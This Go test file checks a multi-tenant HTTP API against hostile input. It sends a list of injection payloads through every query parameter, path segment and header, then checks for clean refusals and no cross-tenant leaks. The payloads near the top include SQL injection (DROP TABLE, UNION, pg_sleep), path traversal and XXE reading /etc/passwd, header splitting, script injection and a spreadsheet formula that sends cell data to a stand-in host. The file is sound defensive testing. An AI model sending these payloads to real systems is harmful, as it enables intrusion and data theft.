package api

import (
	"encoding/json"
	"flag"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"

	"ruggensteun/domain/access"
)

// wholeList is for the long run: with the race detector it takes minutes.
var wholeList = flag.Bool("whole", false, "try every injection, and not one in four; `make fuzz` does")

func marshal(v any) string {
	text, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return string(text)
}

func unmarshal(text string, into any) {
	if err := json.Unmarshal([]byte(text), into); err != nil {
		panic(err)
	}
}

// injections are what somebody sends who wants more than an answer.
var injections = map[string]string{
	"an end of a statement":            `'; DROP TABLE events; --`,
	"a condition that holds":           `' OR '1'='1`,
	"a union":                          `x' UNION SELECT payload FROM events--`,
	"a wildcard":                       `%`,
	"a sleep":                          `1;SELECT pg_sleep(9)`,
	"JSON inside JSON":                 `{"$ne":null}`,
	"a formula":                        `=HYPERLINK("http://x.example/?"&A1,"x")`,
	"a formula behind a tab":           "\t=1+1",
	"a split header":                   "x\r\nSet-Cookie: a=b",
	"a way up":                         `../../../../etc/passwd`,
	"a way up that is written out":     `..%2f..%2fetc%2fpasswd`,
	"a zero byte":                      "x\x00y",
	"a very long value":                strings.Repeat("A", 20_000),
	"many separators":                  strings.Repeat(",", 3_000),
	"a text that reads backwards":      "a\u202eb",
	"half a character":                 "a\xc3",
	"letters that look like others":    "ＧＥＭ－ＲＯＴＴＥＲＤＡＭ",
	"a character that folds to others": "ﬃİ",
	"a template":                       `{{.}}${7*7}`,
	"markup":                           `"><script>alert(1)</script>`,
	"a number beyond all":              `99999999999999999999999999`,
	"less than nothing":                `-1`,
	"not a number":                     `NaN`,
	"a moment that is none":            `0000-00-00T99:99:99+99:99`,
	"an entity":                        `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>`,
	"a format":                         `%s%n%x`,
}

// prober sends things to a world that stays as it is, and says what is wrong with an answer.
type prober struct {
	*walk
	own *side
	who asker
	n   int
}

func newProber(t testing.TB) *prober {
	l := newWalk(t, plantedWorld(t))
	own := l.sides[1]
	return &prober{walk: l, own: own, who: asker{asActor(access.Registrar, own.city), "other registrar", l.token(access.Registrar, own.city)}}
}

// TestNothingGetsInByAQuestion sends each of the injections by every filter, order, cursor and header, and in
// every place of a path: the answer is an ordinary one, or a refusal that names what is wrong.
func TestNothingGetsInByAQuestion(t *testing.T) {
	t.Parallel()
	unraced(t)
	p := newProber(t)
	for _, r := range p.roads {
		for name, value := range injections {
			for _, q := range p.ownQueries(r) {
				if r.method == http.MethodGet {
					p.told(t, name, r, q.name, p.query(r, q.name, value))
				}
			}
			if inBraces.MatchString(r.path) {
				p.told(t, name, r, "", p.send(r.method, base+inBraces.ReplaceAllLiteralString(r.path, url.PathEscape(value)), "{}", nil))
			}
		}
	}
	for name, value := range injections {
		for _, h := range []string{"Accept", "Idempotency-Key", "If-Match", "Content-Type", "Authorization", "X-Forwarded-For", "Range", "Origin", "Accept-Language", "Traceparent", "Cookie", "X-HTTP-Method-Override"} {
			for _, r := range []string{"listIncidents", "askFigure", "registerIncident"} {
				i := slices.IndexFunc(p.roads, func(of road) bool { return of.id == r })
				body := map[bool]string{true: examples[r]}[p.roads[i].body != nil]
				p.told(t, name+" in "+h, p.roads[i], "", p.send(p.roads[i].method, base+p.roads[i].path, body, func(to *http.Request) { to.Header.Set(h, value) }))
			}
		}
	}
	t.Logf("%d injections (one in four of these, but for `make fuzz`)", p.n)
	if p.n < 4_000 {
		t.Errorf("only %d injections were sent", p.n)
	}
}

// FuzzAnyQuestion sends anything by any parameter of any road.
func FuzzAnyQuestion(f *testing.F) {
	p := newProber(f)
	n := uint16(0)
	for _, value := range injections {
		f.Add(n, value)
		n += 7
	}
	f.Fuzz(func(t *testing.T, n uint16, value string) {
		var all []road
		for _, r := range p.roads {
			if r.method == http.MethodGet && len(r.queries) > 0 {
				all = append(all, r)
			}
		}
		r := all[int(n)%len(all)]
		q := r.queries[int(n)/len(all)%len(r.queries)]
		p.told(t, "fuzz", r, q.name, p.query(r, q.name, value))
	})
}

func (p *prober) query(r road, name, value string) *httptest.ResponseRecorder {
	path := base + p.own.records[0](r.path)
	if strings.Contains(path, name+"=") {
		path, _, _ = strings.Cut(path, "?")
	}
	return p.send(r.method, path+mark(path)+name+"="+url.QueryEscape(value), "", nil)
}

func (p *prober) send(method, path, body string, change option) *httptest.ResponseRecorder {
	if p.n++; !*wholeList && p.n%4 != 0 {
		return httptest.NewRecorder() // the whole list is for the long run
	}
	request := httptest.NewRequest(method, "http://localhost/", strings.NewReader(body))
	at, err := url.ParseRequestURI(path)
	if err != nil {
		return httptest.NewRecorder() // no server would be asked that
	}
	at.Scheme, at.Host = "http", "localhost"
	request.URL, request.RequestURI = at, path
	request.Header.Set("Authorization", "Bearer "+p.who.token)
	if body != "" {
		request.Header.Set("Content-Type", "application/json")
	}
	if change != nil {
		change(request)
	}
	rec := httptest.NewRecorder()
	p.handler.ServeHTTP(rec, request)
	return rec
}

// told says what is wrong with an answer. Of a parameter it must name that one.
func (p *prober) told(t testing.TB, name string, r road, parameter string, rec *httptest.ResponseRecorder) {
	t.Helper()
	where := fmt.Sprintf("%s in %s of %s", name, parameter, r.id)
	switch {
	case rec.Code >= 500 && rec.Code != http.StatusServiceUnavailable:
		t.Errorf("%s: it failed: %d %s", where, rec.Code, rec.Body)
	case rec.Code >= 400:
		var told Problem
		must(t, json.Unmarshal(rec.Body.Bytes(), &told))
		if told.Status != rec.Code || told.Detail == "" {
			t.Errorf("%s: it is refused with %s", where, rec.Body)
		}
		if rec.Code == 400 && parameter != "" && len(told.Errors) == 0 && !strings.Contains(told.Detail, "well formed") {
			t.Errorf("%s: the refusal names no field: %s", where, rec.Body)
		}
		for _, e := range told.Errors {
			if parameter != "" && e.Field != parameter && !strings.HasPrefix(e.Field, parameter+"[") && !slices.ContainsFunc(r.queries, func(q query) bool { return e.Field == q.name }) {
				t.Errorf("%s: the refusal names %s", where, e.Field)
			}
		}
	}
	for header, values := range rec.Header() {
		if strings.ContainsAny(header+strings.Join(values, ""), "\r\n\x00") || header == "Set-Cookie" {
			t.Errorf("%s: header %s is %q", where, header, values)
		}
	}
	for _, found := range p.flock.Find(fmt.Append(opened(t, rec), rec.Header())) {
		if of, owner := p.heardOf(found); owner != p.own.city {
			t.Errorf("%s: it shows %s (%s) of another employer", where, found, of)
		}
	}
	for _, value := range []string{"root:x:", "<script>", "pg_sleep"} {
		if strings.Contains(rec.Body.String(), value) {
			t.Errorf("%s: the answer has %s", where, value)
		}
	}
}
